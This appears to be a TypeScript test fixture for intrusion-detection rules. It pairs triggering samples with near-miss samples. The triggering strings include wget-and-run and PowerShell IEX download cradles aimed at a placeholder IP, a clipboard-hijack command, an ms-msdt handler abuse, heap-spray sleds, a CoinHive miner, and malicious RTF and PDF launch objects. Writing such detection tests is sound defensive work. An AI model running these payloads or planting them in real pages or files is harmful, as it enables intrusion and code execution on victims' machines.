// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks are written with ${, in plain strings
import { type Case, reply } from '../traffic.js'

/** Traffic for client.rules. */
export const client: readonly Case[] = [
  {
    sid: 9013001,
    fire: reply('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-' + 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*', {
      type: 'application/octet-stream',
    }),
    nearMiss: reply('The EICAR test file holds the text EICAR-STANDARD-ANTIVIRUS-TEST-FILE'),
  },
  {
    sid: 9013002,
    fire: reply('<script language="VBScript">Set s = CreateObject("WScript.Shell")</script>', {
      type: 'application/hta',
    }),
    nearMiss: reply('<p>WScript.Shell is an object</p>'),
    also: [9013004],
  },
  {
    sid: 9013003,
    fire: reply('<script language=VBScript>redim  Preserve aa(a2)\ny=chrw(01)&chrw(2176)&chrw(01)</script>'),
    nearMiss: reply('<script language=VBScript>redim Preserve aa(a2)</script>'),
  },
  {
    sid: 9013004,
    fire: reply('<script>var s = new ActiveXObject("WScript.Shell")</script>'),
    nearMiss: reply('<p>WScript.Shell is an object</p>'),
  },
  {
    sid: 9013005,
    fire: reply('<object classid="clsid:bd96c556-65a3-11d0-983a-00c04fc29e36" id="x"></object>'),
    nearMiss: reply('<p>Set the kill bit for BD96C556-65A3-11D0-983A-00C04FC29E36</p>'),
  },
  {
    sid: 9013006,
    fire: reply('<object classid="clsid:0955ac62-bf2e-4cba-a2b9-a63f772d46cf" id="x"></object>'),
    nearMiss: reply('<p>Set the kill bit for 0955AC62-BF2E-4CBA-A2B9-A63F772D46CF</p>'),
  },
  {
    sid: 9013007,
    fire: reply('<object classid="clsid:7f5b7f63-f06f-4331-8a26-339e03c0ae3d" id="x"></object>'),
    nearMiss: reply('<p>Set the kill bit for 7F5B7F63-F06F-4331-8A26-339E03C0AE3D</p>'),
  },
  {
    sid: 9013008,
    fire: reply('<object classid="clsid:f0e42d50-368c-11d0-ad81-00a0c90dc8d9" id="x"></object>'),
    nearMiss: reply('<p>Set the kill bit for F0E42D50-368C-11D0-AD81-00A0C90DC8D9</p>'),
  },
  {
    sid: 9013009,
    fire: reply(
      '<script>location.href="ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=?"</script>',
    ),
    nearMiss: reply('<p>Remove the ms-msdt: handler</p>'),
  },
  {
    sid: 9013010,
    fire: reply('<script>f.Script.location = ".cpl:../../../AppData/Local/Temp/Low/x.inf"</script>'),
    nearMiss: reply('<p>Control panel files (.cpl: see below)</p>'),
  },
  {
    sid: 9013011,
    fire: reply('<a href="search-ms:query=x&crumb=location:\\\\203.0.113.9\\share">open</a>'),
    nearMiss: reply('<p>The search-ms: protocol</p>'),
  },
  {
    sid: 9013012,
    fire: reply(
      '<script>navigator.clipboard.writeText("powershell -w hidden -c iwr http://203.0.113.9")</script>',
    ),
    nearMiss: reply('<script>navigator.clipboard.writeText(code.innerText)</script>'),
  },
  {
    sid: 9013013,
    fire: reply('<script>var m = new CoinHive.Anonymous("key"); m.start()</script>'),
    nearMiss: reply('<p>CoinHive closed in 2019</p>'),
  },
  {
    sid: 9013014,
    fire: reply('<script src="https://coinhive.com/lib/coinhive.min.js"></script>'),
    nearMiss: reply('<p>coinhive.min.js was a library</p>'),
  },
  {
    sid: 9013015,
    fire: reply(
      '<iframe width=10 style="position:absolute;left:-1212px" src="http://203.0.113.9/gate"></iframe>',
    ),
    nearMiss: reply('<iframe style="position:relative;left:10px" src="/map"></iframe>'),
  },
  {
    sid: 9013016,
    fire: reply(`MZ${'\x00'.repeat(76)}This program cannot be run in DOS mode.`, { type: 'image/jpeg' }),
    nearMiss: reply(`GIF89a${'\x00'.repeat(76)}This program cannot be run in DOS mode.`, {
      type: 'image/gif',
    }),
  },
  {
    sid: 9013017,
    fire: reply(
      'MZ' +
        '\x00'.repeat(58) +
        '\x80\x00\x00\x00' +
        '\x00'.repeat(14) +
        'This program cannot be run in DOS mode.',
      { type: 'text/plain' },
    ),
    nearMiss: reply(`MZ${'x'.repeat(58)}\xff\xff\xff\xffThis program cannot be run in DOS mode.`, {
      type: 'text/plain',
    }),
  },
  {
    sid: 9013018,
    fire: reply(`\x7fELF\x02\x01\x01${'\x00'.repeat(80)}`, { type: 'image/png' }),
    nearMiss: reply(`\x89PNG\r\n\x7fELF${'\x00'.repeat(80)}`, { type: 'image/png' }),
  },
  {
    sid: 9013019,
    fire: reply('#!/bin/sh\nwget http://203.0.113.9/mips; chmod 777 mips; ./mips\n', { type: 'text/plain' }),
    nearMiss: reply('#!/bin/sh\nset -e\nchmod +x build.sh\n./build.sh\n', { type: 'text/plain' }),
  },
  {
    sid: 9013020,
    fire: reply('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a.ps1")', {
      type: 'text/plain',
    }),
    nearMiss: reply('$c = New-Object Net.WebClient\n$c.Headers.Add("a","b")', { type: 'text/plain' }),
  },
  {
    sid: 9013021,
    fire: reply('<script>var s = unescape("%u9090%u9090%u9090")</script>'),
    nearMiss: reply('<p>A sled such as %u9090%u9090 is common</p>'),
  },
  {
    sid: 9013022,
    fire: reply('<script>while (s.length < 0x40000) s += unescape("%u0c0c%u0c0c")</script>'),
    nearMiss: reply('<p>%u0c0c%u0c0c</p>'),
  },
  {
    sid: 9013023,
    fire: reply('{\\rtf1{\\object\\objdata 0200000002CE020000000000C000000000000046}}', {
      type: 'application/rtf',
    }),
    nearMiss: reply('{\\rtf1{\\object\\objdata 01050000}}', { type: 'application/rtf' }),
  },
  {
    sid: 9013024,
    fire: reply('{\\rtf1{\\object\\objautlink\\objdata 0105e0c9ea79f9bace118c8200aa004ba90b}}', {
      type: 'application/rtf',
    }),
    nearMiss: reply('{\\rtf1{\\object\\objautlink\\objdata 0105}}', { type: 'application/rtf' }),
  },
  {
    sid: 9013025,
    fire: reply('%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>>>', {
      type: 'application/pdf',
    }),
    nearMiss: reply('%PDF-1.4\n1 0 obj<</Title(Product Launch)>>', { type: 'application/pdf' }),
  },
  {
    sid: 9013026,
    fire: reply('\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46\x00\x00', {
      type: 'application/octet-stream',
    }),
    nearMiss: reply('x\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46', {
      type: 'application/octet-stream',
    }),
  },
]
